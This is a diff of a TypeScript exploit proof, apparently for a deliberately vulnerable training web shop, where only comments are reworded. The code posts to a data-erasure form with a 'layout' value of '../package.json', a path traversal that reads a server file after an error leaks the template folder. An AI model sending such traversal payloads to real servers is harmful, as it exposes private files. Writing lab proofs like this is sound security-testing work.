@@ -3,7 +3,7 @@ import { challenge } from './challenge.ts'
 
 const ANSWER = 'Greengage'
 
-/** Becomes a customer who gave an answer to a security question. Gives the e-mail of the account. */
+/** Registers a customer with a security answer and returns the account's e-mail. */
 async function becomeKnown(attacker: Attacker): Promise<string> {
   const { email } = await attacker.becomeCustomer()
   const { user } = (await attacker.get('/rest/user/whoami')).json()
@@ -11,19 +11,19 @@ async function becomeKnown(attacker: Attacker): Promise<string> {
   return email
 }
 
-/** Sends the form of the page as browsers do. */
+/** Submits the form as a browser does. */
 function send(attacker: Attacker, fields: Readonly<Record<string, string>>) {
   const headers = { 'content-type': 'application/x-www-form-urlencoded' }
   return attacker.post('/dataerasure', new URLSearchParams(fields).toString(), { headers })
 }
-/** Asks to be forgotten, and names a layout for the confirmation. */
+/** Requests data erasure and names a layout for the confirmation page. */
 const askFor =
   (layout: string): Attack =>
   async (attacker) => {
     const email = await becomeKnown(attacker)
     return send(attacker, { email, securityAnswer: ANSWER, layout })
   }
-/** The same with a body that is JSON. */
+/** The same request with a JSON body. */
 const askInJson =
   (fields: Readonly<Record<string, unknown>>): Attack =>
   async (attacker) => {
@@ -35,7 +35,7 @@ export const proof = prove(challenge, {
   exploit: async (attacker) => {
     const email = await becomeKnown(attacker)
     await attacker.get('/dataerasure')
-    // What is not there is an error, which tells where layouts are looked for.
+    // The error for a missing layout shows the folder in which the server looks.
     await send(attacker, { email, securityAnswer: ANSWER, layout: 'none' })
     await send(attacker, { email, securityAnswer: ANSWER, layout: '../package.json' })
   },
